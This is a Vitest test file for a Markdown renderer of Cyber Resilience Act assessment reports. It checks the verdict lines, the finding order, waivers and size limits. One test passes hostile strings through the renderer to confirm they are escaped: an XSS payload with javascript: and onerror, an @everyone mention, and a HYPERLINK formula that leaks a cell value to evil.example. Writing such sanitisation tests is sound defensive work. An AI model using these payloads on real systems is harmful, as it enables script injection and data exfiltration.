import { describe, expect, it } from "vitest";
import type { Finding } from "../../src/domain/report.js";
import { MARKDOWN_MAX_CHARS, mdCode, mdText, renderMarkdown } from "../../src/reports/markdown.js";
import { HOSTILE, sampleInput, sampleReport } from "../fixtures/reports/sample-report.js";

describe("Markdown report", () => {
  const md = renderMarkdown(sampleReport());

  it("opens with the verdict and the gate rule", () => {
    expect(md.split("\n")[0]).toBe("## ❌ CRA assessment failed: Cyber Resilience Act (Regulation (EU) 2024/2847)");
    expect(md).toContain(
      "The gate fails on gaps of severity high or above that are not waived. A partly recognized gap counts as a gap while its residual is still missing. **4 findings fail the gate.**",
    );
    const pass = renderMarkdown(sampleReport({ failOn: "never" }));
    expect(pass.split("\n")[0]).toMatch(/^## ✅ CRA assessment passed/);
    expect(pass).toContain("The gate never fails (--fail-on never). **0 findings fail the gate.**");
  });

  it("lists gaps by severity, worst first, before everything else", () => {
    const order = [
      "#### Critical",
      "#### High",
      "#### Info",
      "### Needs review",
      "### Partly recognized",
      "### Waived",
    ];
    const positions = order.map((heading) => md.indexOf(heading));
    expect(positions.every((p) => p > 0)).toBe(true);
    expect([...positions].sort((a, b) => a - b)).toEqual(positions);
    expect(md).not.toContain("#### Medium");
  });

  it("explains each gap: citation, message, evidence, remediation", () => {
    const section = md.slice(md.indexOf("- **CRA-A13-08**"), md.indexOf("- **CRA-AI-P1-2b**"));
    expect(section).toContain("fails the gate");
    expect(section).toContain("The declared support period is 3 years");
    expect(section).toContain("`supportPeriod.years` = `3` at `declaration:/supportPeriod/end`");
    expect(section).toContain("Remediation: Declare a support period of at least five years");
    expect(section).toContain(
      "Citation: [Regulation (EU) 2024/2847, Article 13(8)](https://eur-lex.europa.eu/eli/reg/2024/2847/oj) · law",
    );
  });

  it("folds settled requirements into <details> and flags unverified ones", () => {
    expect(md).toMatch(/<details>\n<summary>Met \(1\)<\/summary>\n\n- \*\*CRA-AI-P1-2d\*\*/);
    expect(md).toMatch(/<details>\n<summary>Not applicable \(1\)<\/summary>/);
    expect(md).toMatch(/\*\*CRA-AVII-1\*\* .*⚠️ unverified requirement/);
    expect(md).toContain("⚠️ 1 finding rests on requirements the reference material marks unverified");
  });

  it("shows waivers with approver, expiry and justification, and the notes", () => {
    expect(md).toContain("Waived for `pkg:generic/vendor-blob` by Product Security Board until 2028-03-01");
    expect(md).toContain("- The waiver for CRA-A13-08 expired on 2028-02-29");
  });

  it("lets no hostile string open HTML, a link, a mention outside code, or a new block", () => {
    // Outside code spans (where nothing is interpreted) only the renderer's own tags may appear unescaped.
    const outsideCode = md.replace(/(`+)(?!`)[\s\S]*?(?<!`)\1(?!`)/g, "");
    const tags = outsideCode.match(/(?<!\\)<\/?[a-z]+/g) ?? [];
    expect(new Set(tags)).toEqual(new Set(["<details", "<summary", "</summary", "</details", "<sub", "</sub"]));
    expect(outsideCode).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(outsideCode).not.toMatch(/(?<![\\`])@everyone/);
    // Every line is one the renderer made: no hostile text starts a line of its own.
    for (const line of md.split("\n")) {
      expect(line).not.toMatch(/^(second line|third|<(?!\/?(details|summary|sub)>))/);
    }
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters.
    expect(md).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u202e]/);
    // The hostile value with backticks sits in a longer fence, so it stays one code span.
    expect(md).toContain(
      "```| pipe | `tick` ``double`` **bold** [link](javascript:alert(1)) <img src=x onerror=alert(1)> @everyone```",
    );
    // A formula-looking remediation is plain text here (escaped &).
    expect(md).toContain('Remediation: =HYPERLINK("http://evil.example/?leak="\\&A1,"click")');
  });

  it("escapes text and code spans", () => {
    expect(mdText("a*b_c [x](y) <b> | ~ & !")).toBe("a\\*b\\_c \\[x\\](y) \\<b\\> \\| \\~ \\& \\!");
    expect(mdText("# heading", Number.POSITIVE_INFINITY, true)).toBe("\\# heading");
    expect(mdText("12. item", Number.POSITIVE_INFINITY, true)).toBe("12\\. item");
    expect(mdText("version 1.2")).toBe("version 1.2");
    expect(mdCode("a`b")).toBe("``a`b``");
    expect(mdCode("`edge`")).toBe("`` `edge` ``");
    expect(mdCode("a|b", Number.POSITIVE_INFINITY, true)).toBe("`a\\|b`");
    expect(mdCode("   ")).toBe("*(empty)*");
    expect(mdText(HOSTILE.lines)).toBe("first line second line third tabbed");
    expect(mdText("ping @everyone and (@org/team), mail psirt@acme.example")).toBe(
      "ping @<!-- -->everyone and (@<!-- -->org/team), mail psirt@acme.example",
    );
  });

  it("stays under GitHub's comment limit for a huge report", () => {
    const long = "x".repeat(5000);
    const findings: Finding[] = Array.from({ length: 400 }, (_, i) => ({
      requirement: `CRA-X-${i}`,
      title: `Requirement ${i}`,
      framework: "cra",
      status: i % 2 === 0 ? "gap" : "met",
      basis: i % 2 === 0 ? "contradicted" : "verified",
      severity: "high",
      citation: { text: "Regulation (EU) 2024/2847" },
      sourceKind: "law",
      message: long,
      evidence: Array.from({ length: 30 }, (_, j) => ({ fact: `f${j}`, value: long })),
      components: Array.from({ length: 50 }, (_, j) => `pkg:npm/c${j}@1`),
      remediation: long,
      rules: ["r"],
    }));
    const huge = renderMarkdown(sampleReport({ findings, waivers: [] }));
    expect(huge.length).toBeLessThanOrEqual(MARKDOWN_MAX_CHARS);
    expect(huge).toMatch(/^## ❌ CRA assessment failed/);
    expect(huge).toContain("cut to fit a comment");

    // A report that fits only in the compact form says it was shortened and keeps every gap.
    const medium = renderMarkdown(sampleReport({ findings: findings.slice(0, 60), waivers: [] }));
    expect(medium.length).toBeLessThanOrEqual(MARKDOWN_MAX_CHARS);
    expect(medium).toContain("shortened to fit a comment");
    for (let i = 0; i < 60; i += 2) expect(medium).toContain(`**CRA-X-${i}**`);
  });

  it("folds a long needs-review list, never the gaps", () => {
    const many = (status: Finding["status"], n: number): Finding[] =>
      Array.from({ length: n }, (_, i) => ({
        requirement: `CRA-R-${status}-${i}`,
        title: "t",
        framework: "cra",
        status,
        basis: "declared",
        severity: "high",
        citation: { text: "c" },
        sourceKind: "law",
        message: "m",
        evidence: [],
        rules: ["r"],
      }));
    const folded = renderMarkdown(
      sampleReport({ findings: [...many("needs-review", 11), ...many("gap", 11)], waivers: [] }),
    );
    expect(folded).toContain("### Needs review (11)\n\n<details>\n<summary>Show the 11 findings</summary>");
    expect(folded).not.toContain("Show the 11 findings</summary>\n\n- **CRA-R-gap");
    expect(folded.match(/<summary>Show the/g)).toHaveLength(1);
    const open = renderMarkdown(sampleReport({ findings: many("needs-review", 10), waivers: [] }));
    expect(open).toContain("### Needs review (10)\n\n- **CRA-R-needs-review-0**");
  });

  it("says how many gaps are new against a baseline", () => {
    const report = sampleReport({ baseline: { gaps: [], asOf: "2028-01-01" } });
    const text = renderMarkdown(report);
    // Five gaps and one partial whose residual is a gap, none in the empty baseline.
    expect(text).toContain("Baseline of 2028-01-01: 6 new gap(s).");
    expect(text).toContain("The gate fails on new gaps (against the baseline) of severity high or above");
    expect(sampleInput().findings.length).toBe(12);
  });
});
